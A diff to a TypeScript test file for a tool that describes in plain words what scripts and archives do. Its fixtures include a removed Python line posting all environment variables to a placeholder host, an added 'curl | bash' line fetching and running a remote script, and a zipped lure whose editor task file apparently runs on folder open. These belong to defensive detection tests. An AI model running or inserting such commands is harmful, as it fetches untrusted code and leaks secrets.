@@ -1,3 +1,4 @@
+import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js'
 import { expect, test } from 'vitest'
 import { artifactOf, commandOf, fileOf } from './testing.ts'
 import { viewArtifact } from './view.ts'
@@ -55,14 +56,20 @@ test('control characters do not reach the page, and nothing is longer than a per
 })
 
 test('a single script is told by what it does', async () => {
-  const view = viewArtifact(
-    await fileOf(
-      'update.py',
-      "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n",
-    ),
-  )
-  const told = [...view.starts.flatMap(({ deeds }) => deeds), ...view.deeds]
-    .map(({ does }) => does)
-    .join('\n')
-  expect(told).toContain('sends the environment with all its keys out')
+  const view = viewArtifact(await fileOf('update.sh', 'curl -s https://x.invalid/i.sh | bash\n'))
+  const told = [...view.starts.flatMap(({ deeds }) => deeds), ...view.deeds].map(({ does }) => does)
+  expect(view.form).toBe('file')
+  expect(told.join('\n')).toContain('runs what https://x.invalid/i.sh hands out')
+})
+
+test('what lies in one archive is named without the archive', async () => {
+  const writer = new ZipWriter(new Uint8ArrayWriter())
+  for (const [path, text] of Object.entries(LURE)) await writer.add(`task/${path}`, new TextReader(text))
+  const view = viewArtifact(await fileOf('task.zip', await writer.close()))
+  expect(view).toMatchObject({ form: 'archive', files: 4 })
+  expect(view.names).toHaveLength(4)
+  expect(view.starts[0]).toMatchObject({
+    file: 'task/.vscode/tasks.json',
+    deeds: [{ file: 'task/routes/auth.js' }],
+  })
 })
